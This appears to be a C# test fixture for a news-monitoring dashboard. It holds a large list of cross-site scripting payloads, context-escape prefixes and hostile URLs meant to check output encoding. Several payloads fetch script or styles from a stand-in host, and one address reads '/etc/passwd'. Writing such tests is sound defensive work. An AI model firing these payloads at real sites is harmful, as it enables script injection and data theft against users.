namespace NewsMonitor.Service.Tests.Dashboard;

/// <summary>Texts that run as script, load something or change a page where an encoding is forgotten. Each calls alert or hit, or asks for leak.invalid.</summary>
internal static class HostilePayloads
{
    private static readonly string[] Cores =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//leak.invalid/x.js></script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"hit('img')\">", "<IMG SRC=\"javascript:alert(1)\">", "<img src=`x`onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"></use></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>parent.hit('srcdoc')</script>\"></iframe>", "<iframe onload=alert(1)>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=refresh content=\"0;url=https://leak.invalid/\">", "<base href=https://leak.invalid/>", "<link rel=stylesheet href=https://leak.invalid/x.css>", "<style>@import 'https://leak.invalid/x.css';</style>", "<style>*{background:url(https://leak.invalid/x)}</style>",
        "<div style=\"background:url(https://leak.invalid/x)\">", "<div style=width:expression(alert(1))>", "<img src=https://leak.invalid/pixel.gif>", "<img srcset=\"https://leak.invalid/p 1x\">", "<picture><source srcset=https://leak.invalid/p><img></picture>",
        "<xss onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>", "<custom-x onpointerrawupdate=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@{alert(1)}", "@(hit('razor'))", "[[${alert(1)}]]", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "<\u0000script>alert(1)</script>", "<scr\u0000ipt>alert(1)</script>", "\u202E<script>alert(1)</script>", "\uFEFF<script>alert(1)</script>", "<\u2028script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<![CDATA[<script>alert(1)</script>]]>", "<!--><img src=x onerror=alert(1)>-->", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<x/><script>alert(1)</script>", "' onmouseover='alert(1)' x='", "\" onfocus=\"alert(1)\" autofocus x=\"", "` onload=`alert(1)`",
    ];

    private static readonly string[] Escapes = ["", "\">", "'>", "</title>", "</bdi></a></h1></main>", "</style>", "</textarea>", "--></noscript>"];

    /// <summary>Every core behind every way out of the place it might stand in.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Escapes.SelectMany(e => Cores.Select(c => e + c))];

    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)", "javascript://news.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "view-source:https://a.example", "blob:https://a.example/1", "file:///etc/passwd", "about:blank", "//leak.invalid/", "https:leak.invalid",
        "https://news.example@leak.invalid/", "https://news.example\\@leak.invalid/", "https://news.example/\"onmouseover=\"alert(1)", "https://news.example/'><script>alert(1)</script>", "ws://leak.invalid/", "mailto:a@b.example?body=x",
    ];
}
